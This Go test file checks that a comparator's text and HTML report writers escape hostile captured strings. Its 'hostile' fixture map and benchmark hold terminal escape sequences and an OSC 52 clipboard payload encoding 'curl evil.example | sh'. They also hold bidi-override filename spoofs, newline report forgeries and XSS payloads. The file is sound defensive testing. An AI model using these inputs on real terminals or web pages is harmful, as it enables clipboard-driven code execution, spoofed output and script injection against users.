package comparator

import (
	"bytes"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile are captured strings that try to drive a terminal or forge report
// lines.
var hostile = map[string]string{
	"clear screen":       "\x1b[2J\x1b[H",
	"osc8 hyperlink":     "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
	"osc52 clipboard":    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"bel":                "ding\a",
	"cr overwrite":       "/payments\rGET /healthy: 0 of 100 differ",
	"newline forgery":    "/x\n2. GET /admin: 0 of 100 exchanges differ (0.0%)",
	"bidi override":      "/files/\u202egnp.exe",
	"bidi isolate":       "\u2067admin\u2069/x",
	"c1 csi (utf-8)":     "\u009b31mred",
	"c1 osc (utf-8)":     "\u009d0;title\u009c",
	"invalid utf-8 csi":  "\x9b31m",
	"del and backspace":  "abc\x7f\x08\x08X",
	"tab":                "a\tb",
	"line separator":     "a\u2028b\u2029c",
	"nul":                "a\x00b",
	"html":               `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"quote and brackets": `"];alert(1)//`,
}

// unsafeIn returns the first character of s (but \n when lines is set) a
// terminal could act on, or "" when there is none.
func unsafeIn(s string, lines bool) string {
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			return s[i : i+1]
		case r == '\n' && lines:
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == '\u2028' || r == '\u2029' || unicode.Is(unicode.Bidi_Control, r):
			return string(r)
		}
		i += n
	}
	return ""
}

func TestTerminalSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"GET /payments/{id}", "GET /payments/{id}"},
		{"résumé → 日本", "résumé → 日本"},
		{"\x1b[2J", `\x1b[2J`},
		{"\x1b]52;c;eA==\x07", `\x1b]52;c;eA==\x07`},
		{"a\rb\nc\td", `a\rb\nc\td`},
		{"\u202eabc\u202c", `\u202eabc\u202c`},
		{"\u2066x\u2069", `\u2066x\u2069`},
		{"\u009b31m", `\u009b31m`},
		{"\x9b31m\xff", `\x9b31m\xff`},
		{"\x7f\x00", `\x7f\x00`},
		{"a\u2028b", `a\u2028b`},
	}
	for _, tc := range tests {
		if got := TerminalSafe(tc.in); got != tc.want {
			t.Errorf("TerminalSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	for name, s := range hostile {
		got := TerminalSafe(s)
		if c := unsafeIn(got, false); c != "" {
			t.Errorf("%s: TerminalSafe(%q) = %q still holds %q", name, s, got, c)
		}
		if again := TerminalSafe(got); again != got {
			t.Errorf("%s: not idempotent: %q then %q", name, got, again)
		}
	}
	if got := TerminalSafeLines("a\x1b\nb\u202e"); got != "a\\x1b\nb\\u202e" {
		t.Errorf("TerminalSafeLines = %q", got)
	}
}

// hostileReport is a report in which every string that comes from captured
// data is s.
func hostileReport(s string) *Report {
	// A detail is lines of a body diff: its lines hold no line break.
	line := strings.ReplaceAll(s, "\n", " ")
	f := FieldReport{Field: "body." + s, Kind: "changed", Count: 5, Rate: 1, Primary: s, Shadow: s,
		Detail: "- " + line + "\n+ " + line, ExampleID: s}
	removed := FieldReport{Field: FieldBody, Kind: "removed", Count: 5, Rate: 1, UnderStatus: true, Fields: []string{"body." + s}}
	noise := FieldReport{Field: "header." + s, Kind: "changed", Count: 5, Rate: 1, Primary: s, Shadow: s, Reason: "volatile", VolatileRate: 1}
	ep := EndpointReport{
		Endpoint: "POST /" + s, Exchanges: 5, Verdicts: map[string]int{"different": 5}, Differing: 5, Comparable: 5,
		DifferenceRate: 1, Significant: true, Fields: []FieldReport{f, removed}, Noise: []FieldReport{noise},
		StatusTransitions: map[string]int{"200 → 500": 5}, Reasons: map[string]int{"shadow: " + s: 1},
		Example: &Example{ID: s, PrimaryStatus: 200, ShadowStatus: 500, Differences: []FieldReport{f, removed}},
		Latency: LatencyReport{Summary: "p50 1ms → 2ms"},
	}
	other := EndpointReport{Endpoint: "GET /" + s, Exchanges: 1, Verdicts: map[string]int{"same": 1}, Comparable: 1, Noise: []FieldReport{noise}}
	return &Report{Service: "payments", Exchanges: 6, Verdicts: map[string]int{"same": 1, "different": 5}, Endpoints: []EndpointReport{ep, other}, NoiseFields: 2}
}

// The text report shows captured strings escaped: no control character but
// its own line breaks, no bidirectional override, and no line a value could
// forge.
func TestWriteTextHostile(t *testing.T) {
	for _, showNoise := range []bool{false, true} {
		var plain bytes.Buffer
		if err := WriteText(&plain, hostileReport("x"), TextOptions{ShowNoise: showNoise}); err != nil {
			t.Fatal(err)
		}
		for name, s := range hostile {
			var out bytes.Buffer
			if err := WriteText(&out, hostileReport(s), TextOptions{ShowNoise: showNoise}); err != nil {
				t.Fatal(err)
			}
			text := out.String()
			if c := unsafeIn(text, true); c != "" {
				t.Errorf("%s (show noise %v): text report holds %q:\n%s", name, showNoise, c, text)
			}
			if got, want := strings.Count(text, "\n"), strings.Count(plain.String(), "\n"); got != want {
				t.Errorf("%s (show noise %v): %d lines, want %d (a value made its own lines):\n%s", name, showNoise, got, want, text)
			}
			if want := TerminalSafe(s); !strings.Contains(text, want) {
				t.Errorf("%s (show noise %v): text report lacks the escaped value %q:\n%s", name, showNoise, want, text)
			}
		}
	}
}

// The HTML report escapes markup and carries no control or bidirectional
// override characters either.
func TestWriteHTMLHostile(t *testing.T) {
	for name, s := range hostile {
		var out bytes.Buffer
		if err := WriteHTML(&out, hostileReport(s), HTMLOptions{ShowNoise: true}); err != nil {
			t.Fatal(err)
		}
		h := out.String()
		if c := unsafeIn(h, true); c != "" {
			t.Errorf("%s: HTML report holds %q", name, c)
		}
		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>"} {
			if strings.Contains(h, bad) {
				t.Errorf("%s: HTML report holds raw %q", name, bad)
			}
		}
	}
}

func BenchmarkTerminalSafe(b *testing.B) {
	for _, bc := range []struct{ name, s string }{
		{"clean", `body.items.*.price: "12.50" → "12.00"`},
		{"hostile", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07/files/\u202egnp.exe\r\n"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			for range b.N {
				_ = TerminalSafe(bc.s)
			}
		})
	}
}

func BenchmarkWriteText(b *testing.B) {
	rep := hostileReport("x")
	var out bytes.Buffer
	for range b.N {
		out.Reset()
		_ = WriteText(&out, rep, TextOptions{ShowNoise: true})
	}
}
